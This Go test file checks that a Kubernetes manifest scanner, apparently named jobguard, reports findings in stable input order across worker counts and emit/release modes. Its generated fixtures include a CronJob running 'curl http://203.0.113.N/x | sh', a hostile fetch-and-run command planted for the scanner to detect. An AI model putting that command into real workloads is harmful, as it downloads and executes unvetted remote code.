package scan

import (
	"fmt"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/jobguard/jobguard/internal/finding"
	"github.com/jobguard/jobguard/internal/input"
	"github.com/jobguard/jobguard/internal/manifest"
	"github.com/jobguard/jobguard/internal/rules"
)

// manyObjects returns n workloads (some risky, some clean, some with no findings at all) with
// ConfigMaps in between, spanning many of evaluate's chunks.
func manyObjects(t *testing.T, n int) []*input.Object {
	t.Helper()
	var b strings.Builder
	for i := range n {
		switch i % 4 {
		case 0:
			fmt.Fprintf(&b, "---\napiVersion: batch/v1\nkind: CronJob\nmetadata: {name: c%d, namespace: ns}\nspec:\n  schedule: '*/5 * * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - name: c\n            image: busybox\n            command: [sh, -c, 'curl http://203.0.113.%d/x | sh']\n", i, i%250)
		case 1:
			fmt.Fprintf(&b, "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: cm%d, namespace: ns}\ndata: {k: v}\n", i)
		case 2:
			fmt.Fprintf(&b, "---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d%d, namespace: ns}\nspec:\n  template:\n    spec:\n      hostPID: %v\n      containers:\n      - name: app\n        image: nginx:1.27\n", i, i%8 == 2)
		default:
			fmt.Fprintf(&b, "---\napiVersion: v1\nkind: Pod\nmetadata: {name: p%d, namespace: ns}\nspec:\n  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n  containers:\n  - name: app\n    image: registry.example.com/app@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n    securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n", i)
		}
	}
	objs, errs := manifest.Parse("many.yaml", []byte(b.String()), manifest.Options{})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	return objs
}

// Judged by one goroutine or several, kept or emitted, the findings come out the same and in
// input order.
func TestEvaluateOrder(t *testing.T) {
	eng, err := rules.New(rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	n := 1000
	want := eng.EvaluateAll(input.NewSet(manyObjects(t, n)))
	if len(want) < n {
		t.Fatalf("only %d findings; the test needs many", len(want))
	}
	tests := []struct {
		name    string
		procs   int
		emit    bool
		release bool
	}{
		{name: "one worker", procs: 1},
		{name: "four workers", procs: 4},
		{name: "four workers, emitted", procs: 4, emit: true},
		{name: "one worker, emitted, released", procs: 1, emit: true, release: true},
		{name: "four workers, emitted, released", procs: 4, emit: true, release: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(tt.procs))
			objs := manyObjects(t, n)
			var (
				mu      sync.Mutex
				emitted finding.Batches
				emit    func([]finding.Finding)
			)
			if tt.emit {
				emit = func(fs []finding.Finding) {
					mu.Lock()
					defer mu.Unlock()
					emitted = append(emitted, fs)
				}
			}
			got, resources := evaluate(eng, input.NewSet(objs), nil, tt.release, emit)
			if tt.emit {
				if got != nil {
					t.Errorf("evaluate with emit also returned %d batches", len(got))
				}
				got = emitted
			}
			if resources != n-n/4 {
				t.Errorf("resources = %d, want %d", resources, n-n/4)
			}
			flat := slices.Concat(got...)
			if len(flat) != len(want) {
				t.Fatalf("%d findings, want %d", len(flat), len(want))
			}
			for i := range flat {
				if flat[i].Rule != want[i].Rule || flat[i].Resource != want[i].Resource || flat[i].Message != want[i].Message {
					t.Fatalf("finding %d = %s %s, want %s %s", i, flat[i].Rule, flat[i].Resource.Name, want[i].Rule, want[i].Resource.Name)
				}
			}
			if tt.release {
				for _, o := range objs {
					if o.Source.Kind != "ConfigMap" && o.Obj != nil {
						t.Fatalf("%s %s was not released", o.Source.Kind, o.Source.Name)
					}
				}
			}
		})
	}
}
